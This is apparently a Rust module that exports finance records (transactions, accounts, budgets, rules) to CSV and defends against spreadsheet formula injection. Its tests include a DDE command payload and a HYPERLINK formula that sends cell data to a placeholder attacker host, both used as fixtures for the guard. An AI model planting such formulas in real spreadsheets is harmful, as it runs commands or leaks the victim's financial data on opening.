//! The CSVs for spreadsheet users, built from the same records as `data.ndjson` while they
//! stream: each sheet is spooled to an unnamed scratch file (a zip holds one open entry at
//! a time) and copied into the zip after the records. Accounts and categories come before
//! the rows that name them, so a transaction's account and category are written by name;
//! those name maps are the only thing kept in memory, and they grow with the number of
//! accounts and categories, not with the history.

use std::collections::HashMap;
use std::fs::File;
use std::io::{self, BufWriter, Seek};

use serde_json::{Map, Value};

/// One sheet: its file name, the record kind it is made of, and its columns as
/// (header, what fills it).
struct Sheet {
    name: &'static str,
    kind: &'static str,
    columns: &'static [(&'static str, Cell)],
}

#[derive(Clone, Copy)]
enum Cell {
    /// A field as stored (amounts are exact decimal strings).
    Field(&'static str),
    /// Free text (every cell is guarded against formulas, see [`guard_formula`]).
    Text(&'static str),
    AccountName(&'static str),
    CategoryName(&'static str),
}

use Cell::{AccountName, CategoryName, Field, Text};

const SHEETS: &[Sheet] = &[
    Sheet {
        name: "transactions.csv",
        kind: "transaction",
        columns: &[
            ("booked_at", Field("booked_at")),
            ("account", AccountName("account_id")),
            ("amount", Field("amount")),
            ("currency", Field("currency")),
            ("payee", Text("payee")),
            ("merchant", Text("merchant")),
            ("description", Text("description")),
            ("category", CategoryName("category_id")),
            ("category_source", Field("category_source")),
            ("tags", Text("tags")),
            ("notes", Text("notes")),
            ("status", Field("status")),
            ("transfer_id", Field("transfer_id")),
            ("id", Field("id")),
        ],
    },
    Sheet {
        name: "accounts.csv",
        kind: "account",
        columns: &[
            ("name", Text("name")),
            ("kind", Field("kind")),
            ("currency", Field("currency")),
            ("current_balance", Field("current_balance")),
            ("available_balance", Field("available_balance")),
            ("iban", Field("iban")),
            ("mask", Field("mask")),
            ("archived_at", Field("archived_at")),
            ("created_at", Field("created_at")),
            ("id", Field("id")),
        ],
    },
    Sheet {
        name: "categories.csv",
        kind: "category",
        columns: &[
            ("name", Text("name")),
            ("parent", CategoryName("parent_id")),
            ("kind", Field("kind")),
            ("archived_at", Field("archived_at")),
            ("id", Field("id")),
        ],
    },
    Sheet {
        name: "budgets.csv",
        kind: "budget",
        columns: &[
            ("name", Text("name")),
            ("category", CategoryName("category_id")),
            ("period", Field("period")),
            ("amount", Field("amount")),
            ("currency", Field("currency")),
            ("rollover", Field("rollover")),
            ("starts_on", Field("starts_on")),
            ("archived_at", Field("archived_at")),
            ("id", Field("id")),
        ],
    },
    Sheet {
        name: "goals.csv",
        kind: "goal",
        columns: &[
            ("name", Text("name")),
            ("target_amount", Field("target_amount")),
            ("currency", Field("currency")),
            ("target_date", Field("target_date")),
            ("account", AccountName("account_id")),
            ("achieved_at", Field("achieved_at")),
            ("archived_at", Field("archived_at")),
            ("id", Field("id")),
        ],
    },
    Sheet {
        name: "rules.csv",
        kind: "rule",
        columns: &[
            ("position", Field("position")),
            ("name", Text("name")),
            ("enabled", Field("enabled")),
            ("triggers", Text("triggers")),
            ("category", CategoryName("category_id")),
            ("merchant", Text("merchant")),
            ("add_tags", Text("add_tags")),
            ("mark_transfer", Field("mark_transfer")),
            ("stop_processing", Field("stop_processing")),
            ("id", Field("id")),
        ],
    },
];

/// A finished sheet, rewound to its start.
pub(super) struct SpooledSheet {
    pub(super) file: File,
    pub(super) rows: u64,
}

pub(super) struct Spreadsheets {
    writers: Vec<(csv::Writer<BufWriter<File>>, u64)>,
    account_names: HashMap<String, String>,
    category_names: HashMap<String, String>,
}

impl Spreadsheets {
    pub(super) fn create(scratch: &std::path::Path) -> io::Result<Self> {
        let mut writers = Vec::new();
        for sheet in SHEETS {
            let mut writer =
                csv::Writer::from_writer(BufWriter::new(tempfile::tempfile_in(scratch)?));
            writer.write_record(sheet.columns.iter().map(|(header, _)| *header))?;
            writers.push((writer, 0));
        }
        Ok(Self {
            writers,
            account_names: HashMap::new(),
            category_names: HashMap::new(),
        })
    }

    pub(super) fn record(&mut self, kind: &str, object: &str) -> io::Result<()> {
        let Some(index) = SHEETS.iter().position(|s| s.kind == kind) else {
            return Ok(());
        };
        let row: Map<String, Value> = serde_json::from_str(object).map_err(io::Error::other)?;
        let id = text_of(row.get("id"));
        match kind {
            "account" => {
                self.account_names.insert(id, text_of(row.get("name")));
            }
            "category" => {
                self.category_names.insert(id, text_of(row.get("name")));
            }
            // The sheet is the live ledger; deleted rows stay in data.ndjson.
            "transaction" if !row.get("deleted_at").is_none_or(Value::is_null) => return Ok(()),
            _ => {}
        }
        let cells: Vec<String> = SHEETS[index]
            .columns
            .iter()
            .map(|(_, cell)| match cell {
                Field(field) | Text(field) => text_of(row.get(*field)),
                AccountName(field) => self.name_of(&self.account_names, row.get(*field)),
                CategoryName(field) => self.name_of(&self.category_names, row.get(*field)),
            })
            // Every cell, not only free text: a provider's account mask or IBAN is text too.
            .map(guard_formula)
            .collect();
        let (writer, rows) = &mut self.writers[index];
        writer.write_record(&cells)?;
        *rows += 1;
        Ok(())
    }

    fn name_of(&self, names: &HashMap<String, String>, id: Option<&Value>) -> String {
        let id = text_of(id);
        names.get(&id).cloned().unwrap_or(id)
    }

    /// The sheets in zip order, each rewound.
    pub(super) fn finish(self) -> io::Result<Vec<(&'static str, SpooledSheet)>> {
        let mut sheets = Vec::new();
        for (sheet, (writer, rows)) in SHEETS.iter().zip(self.writers) {
            let buffered = writer.into_inner().map_err(|e| e.into_error())?;
            let mut file = buffered.into_inner().map_err(|e| e.into_error())?;
            file.rewind()?;
            sheets.push((sheet.name, SpooledSheet { file, rows }));
        }
        Ok(sheets)
    }
}

/// A JSON value as one cell: strings as they are, lists joined with `;`, null empty.
fn text_of(value: Option<&Value>) -> String {
    match value {
        None | Some(Value::Null) => String::new(),
        Some(Value::String(s)) => s.clone(),
        Some(Value::Array(items)) if items.iter().all(|i| !i.is_object()) => items
            .iter()
            .map(|i| text_of(Some(i)))
            .collect::<Vec<_>>()
            .join(";"),
        Some(other) => other.to_string(),
    }
}

/// A spreadsheet runs a cell that starts with `=`, `+`, `-`, `@` (or a tab or carriage
/// return) as a formula: a bank description like `=HYPERLINK(…)` would run on opening.
/// Such text gets a leading apostrophe, which spreadsheets show as plain text. A signed
/// number (`-80.0000`, an amount) is no formula and stays a number.
fn guard_formula(text: String) -> String {
    let signed_number = text.starts_with(['-', '+']) && is_unsigned_decimal(&text[1..]);
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) && !signed_number {
        format!("'{text}")
    } else {
        text
    }
}

/// `80`, `80.25`: digits with at most one point (how amounts are stored as text).
fn is_unsigned_decimal(text: &str) -> bool {
    let mut parts = text.splitn(2, '.');
    let whole = parts.next().unwrap_or_default();
    let fraction = parts.next().unwrap_or_default();
    !whole.is_empty()
        && whole.bytes().all(|b| b.is_ascii_digit())
        && fraction.bytes().all(|b| b.is_ascii_digit())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn text_that_a_spreadsheet_would_run_is_quoted() {
        assert_eq!(
            guard_formula("=HYPERLINK(\"x\")".into()),
            "'=HYPERLINK(\"x\")"
        );
        assert_eq!(guard_formula("@SUM(A1)".into()), "'@SUM(A1)");
        assert_eq!(guard_formula("Market hall".into()), "Market hall");
        for text in [
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "-",
            "+.5",
        ] {
            assert_eq!(guard_formula(text.into()), format!("'{text}"), "{text:?}");
        }
        for number in ["-80.0000", "+12", "-0.5", "12.50"] {
            assert_eq!(guard_formula(number.into()), number, "amounts stay numbers");
        }
    }

    /// Every sheet's every column, free text or not, as a spreadsheet would open it.
    #[test]
    fn no_cell_of_any_sheet_starts_a_formula() {
        let scratch = tempfile::tempdir().unwrap();
        let mut sheets = Spreadsheets::create(scratch.path()).unwrap();
        let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Refund\")";
        let account = serde_json::json!({"id": "a1", "name": "@SUM(1+1)", "kind": "checking",
            "currency": "EUR", "current_balance": "-12.50", "iban": "+IBAN", "mask": "=1+1"});
        let category = serde_json::json!({"id": "c1", "name": "-Groceries", "kind": "expense"});
        let transaction = serde_json::json!({"id": "t1", "booked_at": "2026-03-01",
            "account_id": "a1", "amount": "-80.0000", "currency": "EUR", "payee": "+payee",
            "merchant": "\tmerchant", "description": evil, "category_id": "c1",
            "tags": ["=tag", "ok"], "notes": "\rnote", "status": "posted"});
        for (kind, row) in [
            ("account", &account),
            ("category", &category),
            ("transaction", &transaction),
        ] {
            sheets.record(kind, &row.to_string()).unwrap();
        }
        let mut checked = 0;
        for (name, sheet) in sheets.finish().unwrap() {
            let mut reader = csv::Reader::from_reader(sheet.file);
            for record in reader.records() {
                let record = record.unwrap();
                if name == "transactions.csv" {
                    // booked_at, account, amount, currency, payee, merchant, description, category
                    assert_eq!(&record[1], "'@SUM(1+1)");
                    assert_eq!(&record[2], "-80.0000", "the amount stays a number");
                    assert_eq!(&record[6], format!("'{evil}"));
                    assert_eq!(&record[7], "'-Groceries");
                }
                for cell in record.iter() {
                    let runs = cell.starts_with(['=', '+', '@', '\t', '\r'])
                        || (cell.starts_with('-') && !is_unsigned_decimal(&cell[1..]));
                    assert!(!runs, "{name}: {cell:?} would run as a formula");
                    checked += 1;
                }
            }
        }
        assert!(
            checked > 25,
            "the three rows were written ({checked} cells)"
        );
    }

    #[test]
    fn cells_read_lists_and_nulls() {
        let tags = serde_json::json!(["gift", "family"]);
        assert_eq!(text_of(Some(&tags)), "gift;family");
        assert_eq!(text_of(Some(&Value::Null)), "");
        assert_eq!(text_of(Some(&serde_json::json!("-80.0000"))), "-80.0000");
    }
}
